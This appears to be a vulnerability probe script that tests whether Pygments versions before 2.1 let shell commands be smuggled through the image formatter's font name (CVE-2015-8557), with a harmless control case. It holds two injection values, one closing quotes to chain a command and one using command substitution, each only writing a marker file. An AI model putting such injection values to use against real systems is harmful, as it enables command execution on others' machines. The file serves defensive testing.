# /// vertice-probe
# id = "PYSEC-2016-32"
# aliases = ["CVE-2015-8557", "GHSA-fff8-4w9p-7v76"]
# package = "pygments"
# summary = "The image formatter looks up its font through a shell line, so whoever names the font runs commands."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.0/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H" }]
# cwe = ["CWE-77", "CWE-78"]
# kind = "rce"
# symbols = [
#   "pygments.formatters.ImageFormatter",
#   "pygments.formatters.img.ImageFormatter",
#   "pygments.formatters.img.FontManager",
# ]
# needs = ["pillow"]
#
# [[affected]]
# package = "pygments"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "1.2.2" }, { fixed = "2.1" }] }]
#
# [cases]
# attack = "a font name that closes the quotes runs a second command, which writes a marker"
# [cases.variants]
# substitution = "a command substitution inside the quotes writes the marker"
# [cases.controls]
# lookup = "an ordinary font name is looked up and its file found"
#
# [test]
# vulnerable = "2.0.2"
# fixed = "2.1"
# ///
"""CVE-2015-8557: shell metacharacters in the font name of the image formatter."""

import json
import os
import re
import stat
import sys
import tempfile

BASE = tempfile.mkdtemp()
MARKER = os.path.join(BASE, "marker")
SEEN = os.path.join(BASE, "seen")


def load_formatter():
    """The formatter module; a helper of these releases has a pattern with its flags last, refused since Python 3.11."""
    compile_pattern = re.compile

    def flags_first(pattern, flags=0):
        if isinstance(pattern, str) and pattern.endswith("(?uism)"):
            pattern = "(?uism)" + pattern[: -len("(?uism)")]
        return compile_pattern(pattern, flags)

    re.compile = flags_first
    try:
        from pygments.formatters import img
    finally:
        re.compile = compile_pattern
    return img


def stand_in_for_fc_list(answer):
    """Put an `fc-list` first on PATH which notes its first argument and prints `answer`."""
    tool = os.path.join(BASE, "fc-list")
    with open(tool, "w") as out:
        out.write("#!/bin/sh\nprintf '%%s\\n' \"$1\" >> '%s'\nprintf '%%s' '%s'\n" % (SEEN, answer))
    os.chmod(tool, stat.S_IRWXU)
    os.environ["PATH"] = BASE + os.pathsep + os.environ.get("PATH", "/usr/bin:/bin")


def asked():
    if not os.path.exists(SEEN):
        return []
    with open(SEEN) as seen:
        return seen.read().splitlines()


def look_up_and_look(name):
    img = load_formatter()
    stand_in_for_fc_list("")
    try:
        img.ImageFormatter(font_name=name)
    except img.FontNotFound:
        pass
    if os.path.exists(MARKER):
        return "exploited", "a command inside the font name created the marker file"
    if not any(line.startswith(name + ":style=") for line in asked()):
        return "error", "fc-list was not asked for the font"
    return "blocked", "fc-list got the whole font name as one argument"


def attack():
    return look_up_and_look('x"; : > "%s"; : "' % MARKER)


def substitution():
    return look_up_and_look("x$(: > %s)" % MARKER)


def lookup():
    img = load_formatter()
    stand_in_for_fc_list("/fonts/Some.ttf: \n")
    manager = img.FontManager.__new__(img.FontManager)  # without loading a font, which this machine may not have
    path = manager._get_nix_font_path("Some Sans", "Bold")
    good = path == "/fonts/Some.ttf" and asked() == ["Some Sans:style=Bold"]
    return ("works", "fc-list asked once, path read") if good else ("broken", "%r %r" % (path, asked()))


CASES = {"attack": attack, "substitution": substitution, "lookup": lookup}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
